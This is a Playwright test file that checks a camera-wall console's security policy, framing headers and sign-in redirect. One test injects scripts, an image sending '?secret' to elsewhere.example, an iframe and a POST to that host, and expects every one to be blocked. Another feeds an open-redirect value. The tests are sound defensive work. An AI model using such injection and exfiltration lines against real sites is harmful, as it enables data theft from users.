import { type Browser, expect, type Page, test } from '@playwright/test';
import { cameraOf, signInAs, tileAt, trainingCity, userOf } from './city.ts';

// The pages as they are built, under the headers that the server really sends.

/** What a browser held against a page: violations of its policy, errors of its scripts, and errors it wrote down. */
async function listen(page: Page): Promise<string[]> {
  const faults: string[] = [];
  await page.exposeFunction('reportViolation', (what: string) => void faults.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const { reportViolation } = window as unknown as { reportViolation: (what: string) => void };
      reportViolation(`${effectiveDirective} ${blockedURI} ${sourceFile}`);
    });
  });
  page.on('pageerror', (error) => faults.push(`error: ${error.message}`));
  page.on('console', (message) => {
    // Who is not signed in yet is told so by a status, which a browser writes down as an error.
    if (message.type() === 'error' && !/status of 401/.test(message.text())) faults.push(`console: ${message.text()}`);
  });
  return faults;
}

const publicPages = [
  '/sign-in',
  '/transparency',
  `/invitation#${'t'.repeat(43)}`,
  `/ledger#${'s'.repeat(43)}`,
  `/owner#${'s'.repeat(43)}`,
];

const pagesOf = {
  analyst: ['/account', '/no/such/page'],
  supervisor: ['/supervisor'],
  administrator: ['/people', '/registry-area'],
  auditor: ['/auditor'],
};

async function openPage(page: Page, path: string): Promise<void> {
  await page.goto(trainingCity().url + path);
  await expect(page.getByRole('heading').or(page.getByRole('main')).first()).toBeVisible();
}

/** Video has come to the first tile; that it goes on is other stories' business. */
async function expectVideo(page: Page): Promise<void> {
  const tile = tileAt(page, 1);
  await expect(tile).toHaveAttribute('data-camera-id', cameraOf(trainingCity(), 1).id);
  await expect(tile).toHaveAttribute('data-state', /^(live|stale|degraded)$/);
}

async function openAs(browser: Browser, role: string): Promise<{ page: Page; faults: string[] }> {
  const first = await signInAs(browser, role, `${trainingCity().url}/account`);
  const page = await first.context().newPage();
  await first.close();
  return { page, faults: await listen(page) };
}

test('public pages keep to the policy', async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  const faults = await listen(page);
  for (const path of publicPages) await openPage(page, path);
  // An invitation and a link that nobody was given are not found.
  expect(faults.filter((fault) => !/status of (404|410)/.test(fault))).toEqual([]);
  await page.context().close();
});

for (const [role, paths] of Object.entries(pagesOf)) {
  test(`the pages of the ${role} keep to the policy`, async ({ browser }) => {
    const { page, faults } = await openAs(browser, role);
    for (const path of paths) await openPage(page, path);
    expect(faults).toEqual([]);
    await page.context().close();
  });
}

test('a live wall with its map, toasts and dialogs keeps to the policy, in both windows', async ({ browser }) => {
  const city = trainingCity();
  const { page, faults } = await openAs(browser, 'dispatcher');
  await page.goto(city.wallUrl);
  await expectVideo(page);
  // The map's worker has drawn.
  await expect(page.locator('canvas').first()).toBeVisible();
  await page.keyboard.press('?');
  await expect(page.getByRole('dialog', { name: 'Keys' })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.goto(`${city.wallUrl}/screen/1`);
  await expectVideo(page);
  expect(faults).toEqual([]);
  await page.context().close();
});

test('what somebody has planted in a page does not run, and this test would see it', async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  const faults = await listen(page);
  await openPage(page, '/sign-in');
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.planted = true;';
    const image = new Image();
    image.src = 'https://elsewhere.example/?secret';
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.planted = true;');
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/';
    document.body.append(script, image, button, frame);
    button.click();
    const sent = await fetch('https://elsewhere.example/', { method: 'POST', mode: 'no-cors' }).catch(() => null);
    return { planted: 'planted' in window, sent: sent !== null };
  });
  expect(ran).toEqual({ planted: false, sent: false });
  for (const directive of ['script-src-elem inline', 'script-src-attr inline', 'img-src', 'connect-src', 'frame-src']) {
    await expect.poll(() => faults.some((fault) => fault.startsWith(directive)), directive).toBe(true);
  }
  await page.context().close();
});

test('a page of another site can neither frame the console nor read its answers', async ({ browser }) => {
  const city = trainingCity();
  const { page } = await openAs(browser, 'analyst');
  for (const path of ['/', '/api/me']) {
    const headers = (await page.request.get(city.url + path)).headers();
    expect(headers).toMatchObject({
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    });
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['permissions-policy']).toContain('geolocation=()');
    expect(headers['access-control-allow-origin']).toBeUndefined();
  }
  // This machine under its other name: another origin, with no policy of its own.
  const other = new URL(city.url);
  other.hostname = other.hostname === 'localhost' ? '127.0.0.1' : 'localhost';
  await page.route(`${other.origin}/foreign`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>Foreign' }),
  );
  await page.goto(`${other.origin}/foreign`);
  const read = await page.evaluate(async (url) => {
    const frame = document.createElement('iframe');
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    frame.src = url;
    document.body.append(frame);
    await loaded;
    return fetch(`${url}/api/me`, { credentials: 'include' }).then(
      () => 'read',
      () => 'refused',
    );
  }, city.url);
  expect(read).toBe('refused');
  expect(page.frames().map((frame) => frame.url())).toEqual([
    `${other.origin}/foreign`,
    'chrome-error://chromewebdata/',
  ]);
  await page.context().close();
});

test('a sign-in leads to no page of another site', async ({ browser }) => {
  const city = trainingCity();
  const page = await (await browser.newContext()).newPage();
  const visited: string[] = [];
  page.on('request', (request) => visited.push(new URL(request.url()).host));
  const target = encodeURIComponent('//elsewhere.example/\\elsewhere.example');
  await page.goto(`${city.url}/sign-in?to=${target}`);
  const user = userOf(city, 'analyst');
  await page.getByLabel('Email').fill(user.email);
  await page.getByLabel('Password').fill(user.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL(`${city.url}/wall/**`, { timeout: 60_000 });
  expect(new Set(visited)).toEqual(new Set([new URL(city.url).host]));
  await page.context().close();
});
